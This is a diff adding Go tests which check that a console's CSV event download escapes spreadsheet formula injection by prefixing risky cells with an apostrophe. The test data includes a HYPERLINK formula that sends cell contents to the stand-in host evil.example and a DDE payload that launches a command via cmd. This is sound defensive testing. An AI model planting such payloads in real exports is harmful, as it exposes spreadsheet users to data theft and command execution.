@@ -964,3 +964,40 @@ func TestSignInNextStaysInConsole(t *testing.T) {
 		})
 	}
 }
+
+// TestDownloadCSVFormulas: record content that a spreadsheet would run as
+// a formula (=, +, -, @, tab, CR first) is downloaded as text; numbers
+// stay numbers.
+func TestDownloadCSVFormulas(t *testing.T) {
+	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"}
+	h := newHarness(t, Config{})
+	now := h.clock.now()
+	for i, f := range formulas {
+		seed(t, h.st, acctA, "us-east-1", 1, now.Add(-time.Duration(i+1)*time.Minute), f, false)
+	}
+	c := h.browser(t)
+	h.signIn(t, c, keyA, secretA)
+	code, body, _ := get(t, c, h.srv.URL+Prefix+"events/download?format=csv&region=us-east-1&k=EventSource&v=s3.amazonaws.com")
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if code != 200 || err != nil {
+		t.Fatalf("CSV download = %d, %v", code, err)
+	}
+	var names []string
+	for _, r := range rows[1:] {
+		names = append(names, r[3])
+	}
+	for _, f := range formulas {
+		if !slices.Contains(names, "'"+f) {
+			t.Errorf("event name %q downloaded as %q; want it behind a '", f, names)
+		}
+	}
+}
+
+// TestCSVCells: csvCells' table (the Lake download's header and rows too).
+func TestCSVCells(t *testing.T) {
+	for in, want := range map[string]string{"-12.5": "-12.5", "+3": "+3", "-": "'-", "abc": "abc", "": "", "=1": "'=1", "@x": "'@x", "a=1": "a=1"} {
+		if got := csvCells([]string{in})[0]; got != want {
+			t.Errorf("csvCells(%q) = %q; want %q", in, got, want)
+		}
+	}
+}
